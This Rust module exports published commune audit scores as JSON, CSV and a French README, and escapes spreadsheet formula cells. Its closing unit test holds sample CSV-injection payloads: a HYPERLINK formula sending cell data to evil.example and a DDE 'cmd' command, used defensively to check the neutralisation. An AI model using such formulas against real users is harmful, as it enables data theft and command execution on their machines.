//! Open-data exports: every published audit and its scores as JSON and CSV, one aggregated CSV
//! for all communes, and a README describing every column. Drafts never appear, whatever the
//! build options. Pure: model → files.

use std::fmt::Write as _;

use serde_json::json;

use crate::model::Model;
use crate::model::{Audit, Commune, Methodology, Score};
use crate::score::{CommuneScores, Scorecard, Scored};

/// Columns of `audits.csv`, with their French description.
pub const AUDIT_COLUMNS: [(&str, &str); 12] = [
    (
        "commune",
        "identifiant de la commune dans le dépôt (nom du dossier)",
    ),
    ("nom", "nom de la commune"),
    ("ins", "code INS (REFNIS) de Statbel"),
    ("province", "province"),
    (
        "intercommunale",
        "identifiant de l'intercommunale de développement économique",
    ),
    ("degurba", "degré d'urbanisation (Eurostat)"),
    (
        "population",
        "population (année indiquée dans commune.yaml)",
    ),
    ("audit", "identifiant de l'audit (AAAA-MM)"),
    ("date", "date de l'audit (AAAA-MM-JJ)"),
    ("methodologie", "version de la méthodologie appliquée"),
    (
        "indice_global",
        "moyenne des scores des étapes, sur 100, une décimale ; vide si aucun score",
    ),
    (
        "couverture",
        "part des critères renseignés (ni inconnus, ni sans réponse), de 0 à 1, trois décimales",
    ),
];

/// Columns of `scores.csv` and of each audit's CSV, with their French description.
pub const SCORE_COLUMNS: [(&str, &str); 9] = [
    ("commune", "identifiant de la commune dans le dépôt"),
    ("ins", "code INS (REFNIS) de Statbel"),
    ("audit", "identifiant de l'audit (AAAA-MM)"),
    ("methodologie", "version de la méthodologie appliquée"),
    (
        "niveau",
        "ce que la ligne mesure : etape, angle ou case (étape × angle)",
    ),
    ("etape", "identifiant de l'étape (vide pour un angle)"),
    ("angle", "identifiant de l'angle (vide pour une étape)"),
    (
        "score",
        "moyenne pondérée des critères répondus, sur 100, une décimale ; vide si aucun",
    ),
    (
        "couverture",
        "part des critères renseignés, de 0 à 1, trois décimales ; vide sans critère",
    ),
];

/// Builds the files under `data/` that cover every commune: the audits and scores of every
/// published audit, and the README. Each audit's own files come with its commune
/// ([`export_communes`]).
pub fn export_shared(scored: &Scored<'_>) -> Vec<(String, Vec<u8>)> {
    let mut audits_csv = header(&AUDIT_COLUMNS);
    let mut scores_csv = header(&SCORE_COLUMNS);
    for cs in &scored.communes {
        let c = cs.commune;
        for s in cs.audits.iter().filter(|s| s.published()) {
            let (a, card) = (s.audit, &s.card);
            let population = c.population.to_string();
            let overall = decimal(card.overall, 1);
            let coverage = decimal(Some(card.coverage), 3);
            row(
                &mut audits_csv,
                &[
                    Text(&c.slug),
                    Text(&c.name),
                    Text(&c.ins),
                    Text(&c.province),
                    Text(&c.intercommunale),
                    Text(&c.degurba),
                    Number(&population),
                    Text(&a.id),
                    Text(&a.date),
                    Text(&a.methodology),
                    Number(&overall),
                    Number(&coverage),
                ],
            );
            for line in score_rows(s.methodology, card) {
                row(&mut scores_csv, &score_fields(c, a, &line));
            }
        }
    }
    vec![
        ("data/README.md".into(), readme(scored.model).into_bytes()),
        ("data/audits.csv".into(), audits_csv.into_bytes()),
        ("data/scores.csv".into(), scores_csv.into_bytes()),
    ]
}

/// Builds the files of each published audit of `communes`, under `data/communes/<slug>/`.
pub fn export_communes(communes: &[&CommuneScores<'_>]) -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    for cs in communes {
        for s in cs.audits.iter().filter(|s| s.published()) {
            let mut one = header(&SCORE_COLUMNS);
            for line in score_rows(s.methodology, &s.card) {
                row(&mut one, &score_fields(cs.commune, s.audit, &line));
            }
            files.extend(audit_files(
                cs.commune,
                s.audit,
                s.methodology,
                &s.card,
                one,
            ));
        }
    }
    files
}

/// The JSON and CSV files of one published audit.
fn audit_files(
    c: &Commune,
    a: &Audit,
    m: &Methodology,
    card: &Scorecard,
    csv: String,
) -> [(String, Vec<u8>); 2] {
    let json = json!({
        "commune": {"id": c.slug, "nom": c.name, "ins": c.ins, "province": c.province,
            "intercommunale": c.intercommunale, "degurba": c.degurba, "population": c.population,
            "annee_population": c.population_year, "superficie_km2": c.area_km2, "fictif": c.fictional},
        "audit": {"id": a.id, "date": a.date, "methodologie": a.methodology, "auditeurs": a.auditors,
            "reponses": a.answers.iter().map(|(id, ans)| json!({"critere": id, "score": match ans.score { Score::Level(l) => json!(l), Score::Na => json!("na"), Score::Inconnu => json!("inconnu") }, "constat": ans.evidence, "sources": ans.sources})).collect::<Vec<_>>(),
            "inventaire": a.inventory, "plan": a.plan, "indicateurs": a.indicators},
        "scores": {
            "indice_global": round(card.overall, 1),
            "couverture": round(Some(card.coverage), 3),
            "etapes": m.steps.iter().zip(&card.steps).map(|(s, p)| json!({"etape": s.id, "score": round(p.score, 1), "couverture": round(p.coverage, 3)})).collect::<Vec<_>>(),
            "angles": m.angles.iter().zip(&card.angles).map(|(x, p)| json!({"angle": x.id, "score": round(p.score, 1), "couverture": round(p.coverage, 3)})).collect::<Vec<_>>(),
        },
    });
    let base = format!("data/communes/{}/{}", c.slug, a.id);
    let mut text = serde_json::to_string_pretty(&json).unwrap_or_default();
    text.push('\n');
    [
        (format!("{base}.json"), text.into_bytes()),
        (format!("{base}.csv"), csv.into_bytes()),
    ]
}

/// One record of a scores CSV: the audit's identity, then a row of [`score_rows`].
fn score_fields<'a>(c: &'a Commune, a: &'a Audit, line: &'a [String; 5]) -> [Cell<'a>; 9] {
    [
        Text(&c.slug),
        Text(&c.ins),
        Text(&a.id),
        Text(&a.methodology),
        Text(&line[0]),
        Text(&line[1]),
        Text(&line[2]),
        Number(&line[3]),
        Number(&line[4]),
    ]
}

/// The step, angle and cell rows of one scorecard: niveau, etape, angle, score, couverture.
fn score_rows(m: &crate::model::Methodology, card: &Scorecard) -> Vec<[String; 5]> {
    let mut out = Vec::new();
    for (s, p) in m.steps.iter().zip(&card.steps) {
        out.push([
            "etape".into(),
            s.id.clone(),
            String::new(),
            decimal(p.score, 1),
            decimal(p.coverage, 3),
        ]);
    }
    for (a, p) in m.angles.iter().zip(&card.angles) {
        out.push([
            "angle".into(),
            String::new(),
            a.id.clone(),
            decimal(p.score, 1),
            decimal(p.coverage, 3),
        ]);
    }
    for (s, row) in m.steps.iter().zip(&card.cells) {
        for (a, p) in m.angles.iter().zip(row) {
            if p.criteria > 0 {
                out.push([
                    "case".into(),
                    s.id.clone(),
                    a.id.clone(),
                    decimal(p.score, 1),
                    decimal(p.coverage, 3),
                ]);
            }
        }
    }
    out
}

fn header(columns: &[(&str, &str)]) -> String {
    let names: Vec<&str> = columns.iter().map(|(n, _)| *n).collect();
    format!("{}\n", names.join(","))
}

/// A CSV cell: text from the repository, or a number this program wrote.
#[derive(Clone, Copy)]
enum Cell<'a> {
    Text(&'a str),
    Number(&'a str),
}
use Cell::{Number, Text};

/// Appends one CSV record: text cells that a spreadsheet would read as a formula (starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return) get a leading `'`, as OWASP
/// recommends; then every cell is quoted per RFC 4180 when needed. Numbers are written as is.
fn row(out: &mut String, fields: &[Cell]) {
    for (i, cell) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let neutralised;
        let f = match *cell {
            Number(n) => n,
            Text(t) if t.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
                neutralised = format!("'{t}");
                &neutralised
            }
            Text(t) => t,
        };
        if f.contains([',', '"', '\n', '\r']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(f);
        }
    }
    out.push('\n');
}

fn decimal(v: Option<f64>, places: u8) -> String {
    v.map(|v| crate::format::decimals(v, places))
        .unwrap_or_default()
}

fn round(v: Option<f64>, places: u8) -> Option<f64> {
    v.map(|v| crate::format::round_to(v, places))
}

fn readme(model: &Model) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# {} — données ouvertes\n", model.config.title);
    let _ = writeln!(
        out,
        "Licence : {}. Seuls les audits publiés figurent ici ; les brouillons n'en sortent jamais.\n",
        model.config.data_licence
    );
    out.push_str("Fichiers :\n\n");
    out.push_str("- `audits.csv` : une ligne par audit publié, toutes communes confondues.\n");
    out.push_str("- `scores.csv` : les scores de chaque audit publié, par étape, par angle et par case étape × angle.\n");
    out.push_str("- `communes/<commune>/<audit>.json` : un audit complet (réponses, inventaire, plan d'actions) et ses scores.\n");
    out.push_str("- `communes/<commune>/<audit>.csv` : les scores de cet audit, mêmes colonnes que `scores.csv`.\n\n");
    out.push_str("Les fichiers CSV sont encodés en UTF-8, séparés par des virgules, avec le point comme séparateur décimal.\n");
    out.push_str("Une cellule de texte qui commencerait par `=`, `+`, `-`, `@`, une tabulation ou un retour chariot est précédée d'une apostrophe `'`, pour qu'un tableur ne l'exécute pas comme une formule ; les nombres ne sont jamais modifiés.\n\n");
    out.push_str("## Colonnes de audits.csv\n\n");
    for (name, description) in AUDIT_COLUMNS {
        let _ = writeln!(out, "- `{name}` : {description}");
    }
    out.push_str("\n## Colonnes de scores.csv\n\n");
    for (name, description) in SCORE_COLUMNS {
        let _ = writeln!(out, "- `{name}` : {description}");
    }
    out.push_str("\nLes scores suivent la méthodologie de la version indiquée : la moyenne pondérée des critères répondus, sur 100 (niveau × 25) ; « na » est exclu, « inconnu » compte 0.\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(cells: &[Cell]) -> String {
        let mut out = String::new();
        row(&mut out, cells);
        out
    }

    #[test]
    fn issue_11_formula_cells_are_neutralised_and_quoted() {
        assert_eq!(
            record(&[
                Text("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Arlon\")"),
                Text("+cmd|' /C calc'!A0"),
                Text("@SUM(1)"),
                Text("-2+3"),
                Text("\tx"),
                Text("\rx"),
                Text("Namur"),
            ]),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Arlon\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),'-2+3,'\tx,\"'\rx\",Namur\n"
        );
    }

    #[test]
    fn numbers_are_written_as_they_are() {
        assert_eq!(record(&[Number("-1.5"), Number("42")]), "-1.5,42\n");
    }
}
